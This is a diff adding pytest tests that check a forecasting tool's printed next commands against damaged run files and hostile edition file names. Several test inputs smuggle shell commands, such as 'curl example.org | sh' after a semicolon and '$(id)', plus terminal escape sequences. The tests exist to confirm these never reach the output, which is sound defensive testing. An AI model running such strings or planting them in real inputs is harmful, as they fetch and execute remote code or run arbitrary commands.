@@ -108,6 +108,45 @@ def test_a_damaged_run_takes_no_line_away_but_its_own(tmp_path: Path, damage: st
     assert "forecast trace" not in said
 
 
+@pytest.mark.parametrize(
+    ("name", "damage"),
+    [
+        ("forecasts.json", "[" * 100_000),
+        ("curves.csv", 'layer,event,p\nposterior,"' + "x" * 200_000 + '",0.5\n'),
+        ("influence.csv", 'claim,change\n"' + "x" * 200_000 + '",0.5\n'),
+        ("influence.csv", "claim,change\nx; curl example.org | sh,0.5\n"),
+        ("influence.csv", "claim,change\n\x1b[2J,0.5\n"),
+    ],
+)
+def test_what_is_shown_to_be_typed_is_an_id_or_not_shown(tmp_path: Path, name: str, damage: str) -> None:
+    folder = with_run(tmp_path)
+    (folder / "runs" / EDITION / name).write_text(damage)
+    said = "\n".join(next_lines(folder))
+    assert f"forecast report {EDITION}" in said
+    assert "forecast whatif" not in said
+    assert "curl" not in said
+    assert "\x1b" not in said
+
+
+def test_a_file_whose_name_is_no_id_is_no_edition_to_run(tmp_path: Path) -> None:
+    shutil.copytree(toy_priors(), tmp_path / "priors")
+    for name in ("zz; curl example.org | sh", "zz\x1b]0;x\x07", "$(id)"):
+        shutil.copy(tmp_path / "priors" / "editions" / f"{EDITION}.yaml", tmp_path / "priors" / "editions" / f"{name}.yaml")
+    said = "\n".join(next_lines(tmp_path))
+    assert f"1 edition ({EDITION})" in said
+    assert f"forecast run {EDITION}" in said
+    assert "zz" not in said
+    assert "id)" not in said
+
+
+def test_an_edition_that_follows_on_itself_is_left_to_the_check(tmp_path: Path) -> None:
+    shutil.copytree(toy_priors(), tmp_path / "priors")
+    written(tmp_path / "runs")
+    path = tmp_path / "priors" / "editions" / f"{EDITION}.yaml"
+    path.write_text(f"{path.read_text('utf-8')}previous: {EDITION}\n", "utf-8")
+    assert any(line.strip() == "forecast check" for line in next_lines(tmp_path))
+
+
 def test_it_is_printed_where_no_command_is_given(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
     ran = CliRunner().invoke(app, [])
